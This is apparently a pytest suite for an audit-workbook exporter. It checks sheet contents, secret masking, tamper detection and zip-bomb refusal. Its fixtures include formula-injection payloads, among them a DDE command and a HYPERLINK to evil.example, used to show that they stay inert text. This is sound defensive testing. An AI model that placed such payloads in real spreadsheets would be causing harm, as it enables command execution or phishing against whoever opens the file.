"""The audit workbook read back with openpyxl: every sheet, its values, types, formats, fills,
frozen header, tables, protection and the manifest."""

from __future__ import annotations

import json
from datetime import date, datetime, UTC
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from workbench.store import trail
from workbench.export.manifest import MARKER, manifest_of_file, recorded_manifest
from workbench.export.workbook import verify_workbook, write_workbook
from workbench.palette import palette
from workbench.store.schema import Correction, CustomerLink, ExceptionRow, Run, RunSource, Snapshot

STARTED = datetime(2026, 11, 2, 8, 30, 0, tzinfo=UTC)
FINISHED = datetime(2026, 11, 2, 8, 34, 12, tzinfo=UTC)
SECRET = "tok-9f8e7d6c5b4a-SECRET"

PAYLOADS = ['=HYPERLINK("http://evil.example/x","Click me")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3",
            "@SUM(A1:A2)", "\tTAB=1+1", "\rCR=1+1"]


def _exc(i: int, **kw) -> dict:
    base = dict(key=f"invoice.status_mismatch|006{i}|INV{i}|status", type="invoice.status_mismatch",
                family="invoice", severity="high", status="open", crm_object="invoices", crm_id=f"a0B{i:015d}",
                erp_object="salesInvoices", erp_id=f"INV-{i:05d}", customer_name=f"Kunde {i} GmbH", field="status",
                crm_value="open", erp_value="paid", difference=None, amount_at_risk=Decimal("100.00"),
                currency="EUR", diffs=[{"field": "status", "crm": "open", "erp": "paid"}], proposal=None,
                message="CRM shows the invoice open, the ERP shows it paid.", assignee=None,
                first_seen=datetime(2026, 10, 20, 9, 0, tzinfo=UTC), last_seen=FINISHED, resolution=None)
    base.update(kw)
    return base


def make_run(store, *, exceptions: list[dict] | None = None, extra: int = 0, monkeypatch=None) -> int:
    """A completed run with sources, customers, links, exceptions, a correction and audit events."""
    if monkeypatch is not None:
        monkeypatch.setenv("SF_CLIENT_SECRET", SECRET)
    config = {
        "run": {"name": "October close", "as_of": "2026-10-31", "period": "2026-10"},
        "crm": {"connector": "salesforce", "system": "salesforce",
                "salesforce": {"instance_url": "https://acme.my.salesforce.com", "client_id": "3MVG9-public",
                               "client_secret_env": "SF_CLIENT_SECRET", "api_version": "61.0"}},
        "erp": {"connector": "business_central", "system": "business_central",
                "business_central": {"tenant": "contoso", "environment": "production"}},
        "rules": {"tolerances": {"price_abs": "0.01", "price_rel": "0.001"}, "linking": {"fuzzy_threshold": 0.92},
                  "ownership": {"customers.name": "crm", "invoices.status": "erp"}},
    }
    exceptions = exceptions if exceptions is not None else default_exceptions()
    exceptions = exceptions + [_exc(1000 + i, amount_at_risk=Decimal(i)) for i in range(extra)]
    with store.session() as s:
        run = Run(name="October close", status="completed", started_at=STARTED, finished_at=FINISHED,
                  as_of=date(2026, 10, 31), period="2026-10", user_name="maria", config_path="/home/maria/oct.toml",
                  config=config, software_version="0.1.0",
                  summary={"control_totals": [
                      {"side": "crm", "currency": "EUR", "invoices": 3, "total_amount": "3000.00",
                       "open_balance": "1200.50"},
                      {"side": "erp", "currency": "EUR", "invoices": 3, "total_amount": "3000.00",
                       "open_balance": "1100.50"},
                      {"side": "crm", "currency": "JPY", "invoices": 1, "total_amount": "150000",
                       "open_balance": "150000"},
                      {"side": "erp", "currency": "JPY", "invoices": 1, "total_amount": "150000",
                       "open_balance": "148500"}],
                      "stats": {"reconciling": {"EUR": {"difference": "100.00", "explained": "100.00"}}}})
        s.add(run)
        s.flush()
        rid = run.id
        s.add(RunSource(run_id=rid, side="crm", system="salesforce", connector="salesforce",
                        instance="https://acme.my.salesforce.com", api_version="61.0",
                        objects={"customers": "Account", "invoices": "blng__Invoice__c"},
                        queries={"customers": "SELECT Id, Name FROM Account WHERE IsDeleted = false",
                                 "invoices": f"/services/data/v61.0/query?q=SELECT+Id&access_token={SECRET}"},
                        extracted_at=datetime(2026, 11, 2, 8, 31, 5, tzinfo=UTC),
                        row_counts={"customers": 3, "invoices": 3}, content_hash="ab" * 32))
        s.add(RunSource(run_id=rid, side="erp", system="business_central", connector="business_central",
                        instance="https://svc:hunter2pass@api.businesscentral.dynamics.com/v2.0/contoso",
                        api_version="v2.0", objects={"customers": "customers", "invoices": "salesInvoices"},
                        queries={"customers": "$filter=blocked eq ' '"},
                        extracted_at=datetime(2026, 11, 2, 8, 32, 40, tzinfo=UTC),
                        row_counts={"customers": 3, "invoices": 3}, content_hash="cd" * 32))
        customers = [("crm", "001000000000001AAA", "Alpha AG"), ("crm", "001000000000002AAA", PAYLOADS[0]),
                     ("crm", "001000000000003AAA", "Gamma SA"), ("erp", "C100", "Alpha AG"),
                     ("erp", "C300", "Gamma S.A."), ("erp", "C900", "Omega Ltd")]
        for side, cid, name in customers:
            canon = {"record_id": cid, "name": name, "country": "DE", "currency": "EUR", "number": None}
            s.add(Snapshot(run_id=rid, side=side, object="Account" if side == "crm" else "customers",
                           kind="customers", record_id=cid, query=None, content_hash="0" * 64,
                           payload=json.dumps({"Id": cid}), canonical=json.dumps(canon)))
        s.add(CustomerLink(run_id=rid, crm_id="001000000000001AAA", erp_id="C100", method="xref_crm", confidence=1.0,
                           evidence={"xref": "C100"}, status="auto"))
        s.add(CustomerLink(run_id=rid, crm_id="001000000000003AAA", erp_id="C300", method="fuzzy",
                           confidence=0.8765, evidence={"name": 0.93, "postcode": True}, status="confirmed",
                           decided_by="maria", decided_at=datetime(2026, 11, 2, 9, 0, tzinfo=UTC)))
        for e in exceptions:
            s.add(ExceptionRow(run_id=rid, **e))
        s.flush()
        first_exc = s.query(ExceptionRow).filter_by(run_id=rid).order_by(ExceptionRow.id).first()
        trail.append(s, actor="maria", action="run.completed", entity_type="run", entity_id=rid, run_id=rid,
                     detail={"name": "October close", "token": SECRET}, at=FINISHED)
        if first_exc is None:
            return rid
        corr = Correction(exception_id=first_exc.id, run_id=rid, target_side="crm", target_system="salesforce",
                          target_object="blng__Invoice__c", target_record=first_exc.crm_id, field="status",
                          from_value="open", to_value="paid", state="applied", reason="ERP owns invoice status",
                          preparer="maria", prepared_at=datetime(2026, 11, 2, 9, 10, tzinfo=UTC),
                          approver="tom", approved_at=datetime(2026, 11, 2, 9, 20, tzinfo=UTC),
                          idempotency_key=f"run{rid}-c1", attempts=1, response_id="a0B000000000001AAA",
                          pushed_at=datetime(2026, 11, 2, 9, 21, 3, tzinfo=UTC), verification="agreed")
        s.add(corr)
        s.flush()
        trail.append(s, actor="maria", action="correction.proposed", entity_type="correction", entity_id=corr.id,
                     detail={"from": "open", "to": "paid"}, at=datetime(2026, 11, 2, 9, 10, tzinfo=UTC))
        trail.append(s, actor="tom", action="correction.approved", entity_type="correction", entity_id=corr.id,
                     detail={}, at=datetime(2026, 11, 2, 9, 20, tzinfo=UTC))
        return rid


def default_exceptions() -> list[dict]:
    return [
        _exc(1),
        _exc(2, type="invoice.balance_mismatch", severity="critical", field="open_balance", crm_value="150000",
             erp_value="148500", difference=Decimal("1500"), amount_at_risk=Decimal("1500"), currency="JPY",
             customer_name="株式会社サンプル", assignee="tom", crm_number="INV-2026-0002", erp_number="SI-104711"),
        _exc(3, type="pricing.price_mismatch", severity="medium", status="waived", field="unit_price",
             crm_value="12.345", erp_value="12.340", difference=Decimal("0.005"), amount_at_risk=Decimal("0.005"),
             currency="KWD", resolution="within contract tolerance"),
        _exc(4, type="customer.attribute_mismatch", severity="low", status="in_review", field="name",
             customer_name=PAYLOADS[2], crm_value=PAYLOADS[0], erp_value=PAYLOADS[1], amount_at_risk=None,
             currency=None, message=PAYLOADS[3]),
        _exc(5, type="customer.attribute_mismatch", severity="low", field="street", crm_value=PAYLOADS[4],
             erp_value=PAYLOADS[5], customer_name=PAYLOADS[6], amount_at_risk=None, currency=None),
    ]


def rows_of(ws) -> list[tuple]:
    return [tuple(c.value for c in row) for row in ws.iter_rows()]


def header_index(ws) -> dict[str, int]:
    return {c.value: i for i, c in enumerate(next(ws.iter_rows(min_row=1, max_row=1)))}


@pytest.fixture
def exported(store, tmp_path, monkeypatch):
    rid = make_run(store, monkeypatch=monkeypatch)
    path = tmp_path / "audit.xlsx"
    info = write_workbook(store, rid, path)
    return store, rid, path, info


def test_workbook_has_every_sheet_in_order(exported):
    _, _, path, info = exported
    wb = load_workbook(path)
    assert wb.sheetnames == ["Cover", "Summary", "Exceptions", "Corrections", "Customer links", "Unmatched CRM",
                             "Unmatched ERP", "Close", "Audit trail", "Parameters"]
    assert dict(info.sheets)["Exceptions"] == 5


def test_exceptions_sheet_values_types_and_formats(exported):
    _, _, path, _ = exported
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == 5
    jpy = rows[1]
    assert jpy[h["Type"]].value == "Open balance differs" and jpy[h["Type code"]].value == "invoice.balance_mismatch"
    assert jpy[h["Field"]].value == "Open balance" and jpy[h["Field code"]].value == "open_balance"
    # compared amounts are numbers in the row's currency (an auditor can sum them), not text
    crm, erp = jpy[h["CRM value"]], jpy[h["ERP value"]]
    assert (crm.value, erp.value) == (150000, 148500) and crm.data_type == erp.data_type == "n"
    assert crm.number_format == erp.number_format == '#,##0 "JPY"'
    assert (jpy[h["CRM number"]].value, jpy[h["ERP number"]].value) == ("INV-2026-0002", "SI-104711")
    assert jpy[h["Customer"]].value == "株式会社サンプル"
    assert jpy[h["Amount at risk"]].value == 1500 and jpy[h["Amount at risk"]].data_type == "n"
    assert jpy[h["Amount at risk"]].number_format == '#,##0 "JPY"'
    kwd = rows[2]
    assert kwd[h["Amount at risk"]].value == pytest.approx(0.005)
    assert kwd[h["Amount at risk"]].number_format.startswith('#,##0.000 "KWD"')
    assert kwd[h["Status"]].value == "Waived" and kwd[h["Resolution"]].value == "within contract tolerance"
    assert kwd[h["CRM value"]].value == pytest.approx(12.345) and kwd[h["CRM value"]].number_format == '#,##0.000 "KWD"'
    eur = rows[0]
    assert eur[h["Amount at risk"]].number_format.startswith('#,##0.00 "EUR"')
    first_seen = eur[h["First seen (UTC)"]]
    assert first_seen.is_date and first_seen.value == datetime(2026, 10, 20, 9, 0)
    assert first_seen.number_format == "yyyy-mm-dd hh:mm:ss"
    # age counts from the run (finished 2026-11-02), not from the day of the export
    assert eur[h["Age (days)"]].value == 13
    assert eur[h["CRM record"]].value == "a0B000000000000001" and eur[h["ERP record"]].value == "INV-00001"
    # a text field stays text
    assert eur[h["CRM value"]].value == "open" and eur[h["CRM value"]].data_type == "s"


def test_severity_and_status_cells_use_the_palette(exported):
    _, _, path, _ = exported
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    pal = palette("light")
    rows = list(ws.iter_rows(min_row=2))
    sev = rows[1][h["Severity"]]
    assert sev.value == "Critical"  # the label; the colour is the code's
    assert sev.fill.fill_type == "solid"
    assert sev.fill.fgColor.rgb.upper().endswith(pal["severity"]["critical"].lstrip("#").upper())
    status = rows[2][h["Status"]]
    assert status.fill.fgColor.rgb.upper().endswith(pal["status"]["waived"].lstrip("#").upper())


def test_excel_conventions_frozen_header_table_filter_protection_widths(exported):
    _, _, path, _ = exported
    wb = load_workbook(path)
    for name in ["Exceptions", "Corrections", "Customer links", "Unmatched CRM", "Unmatched ERP", "Audit trail",
                 "Parameters"]:
        ws = wb[name]
        assert ws.freeze_panes == "A2", name
        assert len(ws.tables) == 1, name
        table = next(iter(ws.tables.values()))
        assert table.ref.startswith("A1:"), name
        assert table.autoFilter is not None and table.autoFilter.ref == table.ref, name
        assert [c.name for c in table.tableColumns] == [c.value for c in ws[1]], name
        assert ws.protection.sheet is True and not ws.protection.password, name
        assert ws.protection.autoFilter is False and ws.protection.sort is False, name
        assert all(c.font.b for c in ws[1]), name
    ws = wb["Exceptions"]
    h = header_index(ws)
    from openpyxl.utils import get_column_letter
    msg_col = get_column_letter(h["Message"] + 1)
    longest = max(len(c.value) for c in ws[msg_col][1:] if c.value)
    assert ws.column_dimensions[msg_col].width >= min(longest, 58)
    assert ws.column_dimensions[get_column_letter(h["Severity"] + 1)].width < 20
    assert wb["Cover"].protection.sheet is True and wb.security.lockStructure


def test_formula_payloads_stay_text(exported):
    _, _, path, _ = exported
    wb = load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value in PAYLOADS:
                    found.setdefault(c.value, []).append(c)
    assert set(found) == set(PAYLOADS)
    for value, cells in found.items():
        for c in cells:
            # exactly the source's text, a string cell, never a formula
            assert c.data_type == "s", (c.parent.title, c.coordinate)
            assert c.value == value
    assert all(c.quotePrefix for c in found[PAYLOADS[1]])
    # the Unmatched CRM sheet shows the customer whose name is a formula payload, as text
    names = [r[1] for r in rows_of(wb["Unmatched CRM"])[1:]]
    assert names == [PAYLOADS[0]]


def test_corrections_sheet_tells_the_lifecycle(exported):
    _, _, path, _ = exported
    ws = load_workbook(path)["Corrections"]
    h = header_index(ws)
    row = [c.value for c in ws[2]]
    assert row[h["Before"]] == "open" and row[h["After"]] == "paid"
    assert row[h["Prepared by"]] == "maria" and row[h["Approved or rejected by"]] == "tom"
    assert row[h["Decision"]] == "Approved"
    assert row[h["Prepared at (UTC)"]] == datetime(2026, 11, 2, 9, 10)
    assert row[h["Approved or rejected at (UTC)"]] == datetime(2026, 11, 2, 9, 20)
    assert row[h["State"]] == "Sent and verified" and row[h["State code"]] == "applied"
    assert row[h["Response id"]] == "a0B000000000001AAA"
    assert row[h["Verification"]].startswith("Agreed") and row[h["Push attempts"]] == 1
    assert row[h["Type"]] == "Invoice status differs" and row[h["Type code"]] == "invoice.status_mismatch"


def test_links_unmatched_audit_and_parameters(exported):
    _, _, path, _ = exported
    wb = load_workbook(path)
    links = rows_of(wb["Customer links"])
    assert links[0][:6] == ("CRM record", "CRM name", "ERP record", "ERP name", "Method", "Confidence")
    assert links[1][:5] == ("001000000000001AAA", "Alpha AG", "C100", "Alpha AG", "xref_crm")
    assert links[2][4] == "fuzzy" and links[2][5] == pytest.approx(0.8765)
    assert links[2][9] == "Matched on postcode; name 0.93"  # evidence in words ...
    assert json.loads(links[2][10]) == {"name": 0.93, "postcode": True}  # ... and as recorded, in a hidden column
    assert wb["Customer links"].column_dimensions["K"].hidden
    assert [r[0] for r in rows_of(wb["Unmatched ERP"])[1:]] == ["C900"]
    audit = rows_of(wb["Audit trail"])
    assert [r[3] for r in audit[1:]] == ["run.completed", "correction.proposed", "correction.approved"]
    assert all(len(r[8]) == 64 for r in audit[1:])
    assert audit[0][6:10] == ("Detail", "Previous hash", "Hash", "Detail (JSON, as hashed)")
    assert audit[2][6] == "open → paid"
    assert json.loads(audit[2][9]) == {"from": "open", "to": "paid"}
    assert wb["Audit trail"].column_dimensions["J"].hidden
    assert audit[2][7] == audit[1][8]  # each event names its predecessor's hash
    params = {(r[0], r[1]): r[2] for r in rows_of(wb["Parameters"])[1:]}
    assert params[("rules", "tolerances.price_abs")] == "0.01"
    assert params[("crm", "salesforce.client_secret_env")] == "SF_CLIENT_SECRET"


def test_summary_counts_amounts_and_links(exported):
    _, _, path, _ = exported
    ws = load_workbook(path)["Summary"]
    rows = rows_of(ws)
    by_first = {r[0]: r for r in rows if r and r[0]}
    assert by_first["Exceptions"][1] == 5
    link_cell = next(c for c in ws["A"] if c.value == "Exceptions")
    assert link_cell.hyperlink is not None and link_cell.hyperlink.location == "'Exceptions'!A1"
    status_rows = [r[:6] for r in rows if r[0] == "Open balance differs"]
    assert status_rows == [("Open balance differs", "Open", "JPY", 1, 1500, "invoice.balance_mismatch")]
    status_row = next(n for n, r in enumerate(rows, start=1) if r[0] == "Open balance differs")
    jpy_cell = next(c for c in ws["E"] if c.value == 1500 and c.row == status_row)
    assert '"JPY"' in jpy_cell.number_format
    assert by_first["Total"][3] == 5
    # the reconciling difference per currency: CRM open balance − ERP open balance
    recon = [r for r in rows if r[0] == "JPY" and r[3] == 1500 and r[1] == 150000]
    assert recon, rows
    eur = next(r for r in rows if r[0] == "EUR" and r[1] == 1200.5)
    # a run stored before the reconciling items were kept: they stay blank, the unexplained is what it was
    assert eur[3] == 100 and eur[4] == 100 and eur[5:9] == (None, None, None, None) and eur[9] == 0
    matched = by_first["Matched (auto or confirmed)"]
    assert matched[2] == 2 and matched[3] == pytest.approx(2 / 3)


def test_cover_describes_the_run_and_its_sources(exported):
    _, rid, path, info = exported
    ws = load_workbook(path)["Cover"]
    rows = rows_of(ws)
    label = {r[0]: r[1] for r in rows if r and r[0]}
    assert label["Run id"] == rid and label["Period"] == "2026-10"
    assert label["As-of date"] == datetime(2026, 10, 31)
    assert label["Run by"] == "maria" and label["Finished (UTC)"] == datetime(2026, 11, 2, 8, 34, 12)
    assert label["Software version"] == "Recon Workbench 0.1.0"
    crm = next(r for r in rows if r[0] == "CRM")
    assert crm[1:5] == ("salesforce", "salesforce", "https://acme.my.salesforce.com", "61.0")
    assert crm[8] == "ab" * 32 and crm[5] == datetime(2026, 11, 2, 8, 31, 5)
    assert any(r[0] == "CRM" and r[1] == "customers" and "SELECT Id, Name FROM Account" in r[3] for r in rows)
    assert any(r[0] == "tolerances.price_abs" and r[1] == "0.01" for r in rows)
    assert any(r[0] == "customers.name" and r[1] == "crm" for r in rows)
    assert label["Hash chain"].startswith("intact")
    assert label[MARKER] == info.manifest


def test_no_secret_anywhere_in_the_file(exported, tmp_path):
    _, _, path, _ = exported
    import zipfile
    with zipfile.ZipFile(path) as z:
        blob = b"".join(z.read(n) for n in z.namelist())
    assert SECRET.encode() not in blob
    assert b"hunter2pass" not in blob
    wb = load_workbook(path)
    cover = rows_of(wb["Cover"])
    erp = next(r for r in cover if r[0] == "ERP")
    assert erp[3] == "https://svc:***@api.businesscentral.dynamics.com/v2.0/contoso"


def test_manifest_on_cover_matches_the_cells(exported):
    _, _, path, info = exported
    total, per_sheet = manifest_of_file(path)
    assert total == info.manifest
    wb = load_workbook(path, read_only=True)
    recorded_total, recorded_sheets = recorded_manifest(wb["Cover"])
    wb.close()
    assert recorded_total == total
    assert recorded_sheets == dict(per_sheet)


def test_verify_passes_on_an_untouched_workbook(exported):
    store, rid, path, _ = exported
    rep = verify_workbook(store, path)
    assert rep.ok, rep.lines()
    assert rep.run_id == rid


def test_verify_names_sheet_and_cell_of_a_tampered_copy(exported, tmp_path):
    store, _, path, _ = exported
    wb = load_workbook(path)
    ws = wb["Exceptions"]
    h = header_index(ws)
    from openpyxl.utils import get_column_letter
    address = f"{get_column_letter(h['Amount at risk'] + 1)}3"
    assert ws[address].value == 1500
    ws[address].value = 15
    tampered = tmp_path / "tampered.xlsx"
    wb.save(tampered)
    rep = verify_workbook(store, tampered)
    assert not rep.ok
    assert [(d.sheet, d.cell, d.expected, d.found) for d in rep.differences] == [("Exceptions", address, "1500", "15")]
    text = "\n".join(rep.lines())
    assert f"Exceptions!{address}" in text and "edited after export" in text


def test_verify_notices_the_store_moving_on(exported):
    store, rid, path, _ = exported
    with store.session() as s:
        row = s.query(ExceptionRow).filter_by(run_id=rid).order_by(ExceptionRow.id).first()
        row.status = "resolved"
    rep = verify_workbook(store, path)
    assert not rep.ok
    assert rep.manifest_recorded == rep.manifest_file != rep.manifest_store
    assert [(d.sheet, d.cell) for d in rep.differences][0] == ("Exceptions", "D2")
    assert "changed after this workbook was exported" in "\n".join(rep.lines())


def test_same_run_same_cells_except_the_export_anchor(store, tmp_path, monkeypatch):
    rid = make_run(store, monkeypatch=monkeypatch)
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    ia = write_workbook(store, rid, a)
    ib = write_workbook(store, rid, b)
    assert ia.export_id != ib.export_id
    wa, wb_ = load_workbook(a), load_workbook(b)
    for name in wa.sheetnames:
        if name != "Cover":
            assert rows_of(wa[name]) == rows_of(wb_[name]), name
    ca, cb = rows_of(wa["Cover"]), rows_of(wb_["Cover"])
    differing = {x[0] for x, y in zip(ca, cb) if x != y}
    assert differing <= {"Export id", "Exported (UTC)", "Events at export", "Head hash at export", MARKER,
                         "Sheet hash"}
    events = {r[0]: r[1] for r in ca if r and r[0]}["Events at export"]
    assert {r[0]: r[1] for r in cb if r and r[0]}["Events at export"] == events + 1  # a's export event
    assert wa.properties.created == datetime(2026, 11, 2, 8, 30)
    assert wa.properties.modified == datetime(2026, 11, 2, 8, 34, 12)
    import zipfile
    with zipfile.ZipFile(a) as z:
        assert {i.date_time for i in z.infolist()} == {(2026, 11, 2, 8, 34, 12)}


def test_long_sheets_continue_on_numbered_sheets(store, tmp_path, monkeypatch):
    import workbench.export.workbook as wbmod
    monkeypatch.setattr(wbmod, "SHEET_ROWS", 8)  # 5 data rows per sheet + header + blank + note
    rid = make_run(store, extra=7, monkeypatch=monkeypatch)  # 12 exceptions
    path = tmp_path / "long.xlsx"
    info = write_workbook(store, rid, path)
    assert [(n, r) for n, r in info.sheets if n.startswith("Exceptions")] == [
        ("Exceptions", 5), ("Exceptions (2)", 5), ("Exceptions (3)", 2)]
    wb = load_workbook(path)
    first = rows_of(wb["Exceptions"])
    assert len(first) == 8 and first[6] == (None,) * len(first[0])
    assert first[7][0] == "Continued on sheet 'Exceptions (2)': Excel holds at most 8 rows per sheet."
    second = rows_of(wb["Exceptions (2)"])
    assert second[0] == first[0]  # the header repeats
    ids = [r[0] for n in ("Exceptions", "Exceptions (2)", "Exceptions (3)") for r in rows_of(wb[n])[1:6]
           if isinstance(r[0], int)]
    assert len(ids) == 12 and ids == sorted(ids)
    assert next(iter(wb["Exceptions (3)"].tables.values())).ref == "A1:X3"
    summary = {r[0]: r for r in rows_of(wb["Summary"]) if r and r[0]}
    assert "continued from 'Exceptions'" in summary["Exceptions (2)"][2]
    assert verify_workbook(store, path).ok


def test_empty_run_still_gives_a_readable_workbook(store, tmp_path, monkeypatch):
    rid = make_run(store, exceptions=[], monkeypatch=monkeypatch)
    path = tmp_path / "empty.xlsx"
    info = write_workbook(store, rid, path)
    wb = load_workbook(path)
    assert rows_of(wb["Exceptions"])[0][0] == "Exception id"
    assert next(iter(wb["Exceptions"].tables.values())).ref == "A1:X2"
    assert dict(info.sheets)["Exceptions"] == 0
    assert verify_workbook(store, path).ok


def test_cancel_leaves_nothing_behind(store, tmp_path, monkeypatch):
    import workbench.export.workbook as wbmod
    from workbench.errors import Cancelled
    from workbench.progress import RecordingProgress
    monkeypatch.setattr(wbmod, "PROGRESS_EVERY", 3)
    rid = make_run(store, extra=20, monkeypatch=monkeypatch)
    path = tmp_path / "out" / "cancelled.xlsx"
    path.parent.mkdir()

    class CancelAfterFirst(RecordingProgress):
        def set_progress(self, done, total=None, message=""):
            super().set_progress(done, total, message)
            if done >= 3:
                self.cancel()

    state = CancelAfterFirst()
    with pytest.raises(Cancelled):
        write_workbook(store, rid, path, state=state)
    assert list(path.parent.iterdir()) == []
    assert any(total for _, total, _ in state.updates)


def test_bad_target_is_a_clear_input_error(store, tmp_path, monkeypatch):
    from workbench.errors import InputError
    rid = make_run(store, monkeypatch=monkeypatch)
    with pytest.raises(InputError, match="ending in .xlsx"):
        write_workbook(store, rid, tmp_path / "audit.csv")
    with pytest.raises(InputError, match="folder does not exist"):
        write_workbook(store, rid, tmp_path / "nope" / "audit.xlsx")


def test_unwritable_characters_and_overlong_text_are_shown_not_dropped(store, tmp_path, monkeypatch):
    long_text = "x" * 40_000
    rid = make_run(store, exceptions=[_exc(1, crm_value="bell\x07here", erp_value=long_text)],
                   monkeypatch=monkeypatch)
    path = tmp_path / "odd.xlsx"
    write_workbook(store, rid, path)
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    row = [c.value for c in ws[2]]
    assert row[h["CRM value"]] == "bell\\x07here"
    assert len(row[h["ERP value"]]) == 32_767 and row[h["ERP value"]].endswith("…[truncated]")
    assert verify_workbook(store, path).ok


def test_a_secret_named_by_the_config_is_masked_even_inside_source_values(store, tmp_path, monkeypatch):
    rid = make_run(store, exceptions=[_exc(1, erp_value=f"note: key {SECRET} pasted by mistake")],
                   monkeypatch=monkeypatch)
    path = tmp_path / "masked.xlsx"
    write_workbook(store, rid, path)
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    assert ws[2][h["ERP value"]].value == "note: key *** pasted by mistake"


def test_later_runs_do_not_disturb_the_verification_of_an_earlier_workbook(store, tmp_path, monkeypatch):
    first = make_run(store, monkeypatch=monkeypatch)
    path = tmp_path / "first.xlsx"
    write_workbook(store, first, path)
    make_run(store, monkeypatch=monkeypatch)  # another month's run, with its own events
    rep = verify_workbook(store, path)
    assert rep.ok, rep.lines()


def test_a_target_that_cannot_be_replaced_is_a_clear_error_and_leaves_nothing(store, tmp_path, monkeypatch):
    from workbench.errors import InputError
    out = tmp_path / "out"
    out.mkdir()
    (out / "audit.xlsx").mkdir()  # the name is taken by a folder: the final rename fails
    rid = make_run(store, monkeypatch=monkeypatch)
    with pytest.raises(InputError, match="cannot write the workbook"):
        write_workbook(store, rid, out / "audit.xlsx")
    assert sorted(p.name for p in out.iterdir()) == ["audit.xlsx"]


def test_editing_the_manifest_on_the_cover_is_noticed(exported, tmp_path):
    store, _, path, _ = exported
    wb = load_workbook(path)
    cover = wb["Cover"]
    cell = next(r[1] for r in cover.iter_rows() if r[0].value == MARKER)
    cell.value = "0" * 64
    forged = tmp_path / "forged.xlsx"
    wb.save(forged)
    rep = verify_workbook(store, forged)
    assert not rep.ok
    assert rep.manifest_cover == "0" * 64 and rep.manifest_recorded == rep.manifest_file == rep.manifest_store
    # the data cells themselves are intact: only the manifest's own cell is named
    assert [(d.sheet, d.cell, d.found) for d in rep.differences] == [("Cover", cell.coordinate, "0" * 64)]
    assert rep.file_edits == ["the data manifest written on the Cover is not the one the store recorded at export"]
    assert not rep.store_changed


def test_compared_dates_are_date_cells_and_missing_values_empty(store, tmp_path, monkeypatch):
    rid = make_run(store, monkeypatch=monkeypatch, exceptions=[
        _exc(1, type="invoice.due_date_mismatch", field="due_date", crm_value="2026-11-30", erp_value="2026-12-15"),
        _exc(2, type="invoice.balance_mismatch", field="open_balance", crm_value="1200.5", erp_value="nan",
             currency="EUR")])
    path = tmp_path / "dates.xlsx"
    write_workbook(store, rid, path)
    ws = load_workbook(path)["Exceptions"]
    h = header_index(ws)
    due, balance = list(ws.iter_rows(min_row=2))
    assert due[h["CRM value"]].is_date and due[h["CRM value"]].value == datetime(2026, 11, 30)
    assert due[h["ERP value"]].number_format == "yyyy-mm-dd" and due[h["Field"]].value == "Due date"
    assert balance[h["CRM value"]].value == 1200.5 and balance[h["CRM value"]].number_format == '#,##0.00 "EUR"'
    assert balance[h["ERP value"]].value is None  # a missing value is an empty cell, never "nan"
    assert verify_workbook(store, path).ok


@pytest.mark.parametrize("label, column, forged", [
    ("Check with", 2, "No check needed: figures approved by the CFO"),
    ("Sheet hash", 3, "0" * 64),  # the first one: the Cover's own hash
    ("What is hashed", 2, "nothing"),
])
def test_every_cell_below_the_manifest_marker_is_checked(exported, tmp_path, label, column, forged):
    store, _, path, _ = exported
    wb = load_workbook(path)
    cell = next(r[column - 1] for r in wb["Cover"].iter_rows() if r[0].value == label)
    cell.value = forged
    wb.save(tmp_path / "forged.xlsx")
    rep = verify_workbook(store, tmp_path / "forged.xlsx")
    assert not rep.ok and not rep.store_changed
    assert [(d.sheet, d.cell, d.found) for d in rep.differences] == [("Cover", cell.coordinate, forged)]
    text = "\n".join(rep.lines())
    assert "NOT VERIFIED" in text and f"Cover!{cell.coordinate}: workbook has" in text
    assert f"file edited since export: the text below '{MARKER}' on the Cover is not what the export wrote" in text


def test_a_row_added_below_the_manifest_is_named(exported, tmp_path):
    store, _, path, _ = exported
    wb = load_workbook(path)
    cover = wb["Cover"]
    last = cover.max_row
    cover.cell(last + 2, 1).value = "Approved by the CFO: no further checks needed"
    wb.save(tmp_path / "forged.xlsx")
    rep = verify_workbook(store, tmp_path / "forged.xlsx")
    assert not rep.ok
    assert [(d.sheet, d.cell) for d in rep.differences] == [("Cover", f"A{last + 2}")]


def _repeat(chunk: bytes, times: int):
    def write(out) -> None:
        for _ in range(times):
            out.write(chunk)
    return write


def test_a_zip_bomb_is_refused_before_any_part_is_read(exported, tmp_path):
    from tests.helpers.forge import with_shared_strings
    from workbench.errors import InputError
    from workbench.export.presentation import PackageTooLarge, fingerprint
    store, _, path, _ = exported
    bomb = tmp_path / "bomb.xlsx"
    # 4 MiB of shared strings packed into a few KB: no export's part compresses a thousand to one
    with_shared_strings(path, bomb, _repeat(b"<si><t>" + b"A" * 65_536 + b"</t></si>", 64))
    assert bomb.stat().st_size < path.stat().st_size + 64_000
    with pytest.raises(InputError) as err:
        verify_workbook(store, bomb)
    text = str(err.value)
    assert text.startswith(f"{bomb}: not an export: its part xl/sharedStrings.xml unpacks ") and "\n" not in text
    assert "times its packed size" in text
    with pytest.raises(PackageTooLarge, match="xl/sharedStrings.xml"):
        fingerprint(bomb)


def test_a_huge_part_is_refused_by_the_cli_in_one_line_without_reading_it(exported, tmp_path):
    import subprocess
    import sys
    from tests.helpers.forge import with_shared_strings
    store, _, path, _ = exported
    bomb = tmp_path / "sst_huge.xlsx"
    with_shared_strings(path, bomb, _repeat(b"<si><t>" + b"A" * 1_000_000 + b"</t></si>", 600))  # 600 MB
    assert bomb.stat().st_size < 2_000_000
    # in a child process whose address space is capped, so that reading the part fails fast, not the machine
    code = ("import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30)); "
            "from workbench.cli import main; sys.exit(main(sys.argv[1:]))")
    proc = subprocess.run([sys.executable, "-c", code, "export", "--db", store.url, "--verify", str(bomb)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert proc.stdout == "" and proc.stderr.count("\n") == 1
    assert proc.stderr.startswith(f"workbench: error: {bomb}: not an export: its part xl/sharedStrings.xml "
                                  "unpacks to 600,0") and "(at most 536,870,912 in an export)" in proc.stderr


# ---- parts no export has: members nothing refers to, names outside the package, a DOCTYPE -------------

